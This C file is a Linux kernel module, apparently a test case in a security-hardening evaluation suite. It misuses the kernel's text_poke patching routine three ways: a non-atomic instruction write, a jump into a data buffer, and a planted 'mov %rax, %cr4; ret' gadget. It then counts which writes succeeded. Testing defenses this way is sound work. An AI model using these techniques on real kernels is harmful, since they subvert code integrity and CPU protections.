/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Linux's own patching of its text (text_poke) made to write what Linux never does: other instructions at
 * once, a jump to data in the three steps of a patch, a gadget behind INT3.
 */
#include "attack.h"

#include <linux/delay.h>
#include <linux/kthread.h>
#include <linux/string.h>
#include <asm/text-patching.h>

#define WAIT_MS 500
#define WAYS 3

typedef void *(*poke_function)(void *address, const void *opcode, size_t length);

static poke_function poke;
static u8 data[16];

/* Five bytes of its own each, which nobody executes. */
asm(".pushsection .text\n"
    ".balign 16\n"
    "text_store_site:\n"
    "\t.rept 3\n"
    "\t.byte 0x0f, 0x1f, 0x44, 0x00, 0x00\n"
    "\tret\n"
    "\t.balign 16, 0x90\n"
    "\t.endr\n"
    ".popsection\n");
extern u8 text_store_site[];

static u8 *site(unsigned int i)
{
	return text_store_site + 16 * i;
}

static int at_once(void *unused)
{
	static const u8 code[] = {0xb8, 0xc4, 0x5e, 0x00, 0x00};

	(void)unused;
	poke(site(0), code, sizeof(code));
	return 0;
}

static int patch(unsigned int i, const u8 *code)
{
	static const u8 int3 = 0xcc;

	poke(site(i), &int3, 1);
	poke(site(i) + 1, code + 1, 4);
	poke(site(i), code, 1);
	return 0;
}

static int jump_to_data(void *unused)
{
	u8 code[5] = {0xe9};
	s32 by = (s32)(data - (site(1) + sizeof(code)));

	(void)unused;
	memcpy(code + 1, &by, sizeof(by));
	return patch(1, code);
}

static int gadget(void *unused)
{
	/* mov %rax, %cr4; ret, from the second byte on */
	static const u8 code[] = {0x0f, 0x0f, 0x22, 0xe0, 0xc3};

	(void)unused;
	return patch(2, code);
}

/* Threads of the kernel's: what is refused ends them, and they have nothing of a user's. */
static int attempt(void)
{
	static int (*const ways[WAYS])(void *) = {at_once, jump_to_data, gadget};

	poke = (poke_function)attack_symbol("text_poke");
	if (!poke)
		return -ENOENT;
	for (unsigned int i = 0; i < WAYS; i++) {
		if (IS_ERR(kthread_run(ways[i], NULL, "text_store/%u", i)))
			return -ENOMEM;
		msleep(WAIT_MS);
	}
	return 0;
}

static bool effect(void)
{
	static const u8 second[WAYS] = {0xc4, 0, 0x0f};
	unsigned int done = 0;

	for (unsigned int i = 0; i < WAYS; i++)
		done += i == 1 ? READ_ONCE(site(i)[0]) == 0xe9 : READ_ONCE(site(i)[1]) == second[i];
	attack_detail("%u of %u ways", done, WAYS);
	return attack_under_secpod() ? done != 0 : done == WAYS;
}

static const struct attack text_store = {"text_store", "code-store", NULL, attempt, effect, NULL};
ATTACK_MODULE(text_store);
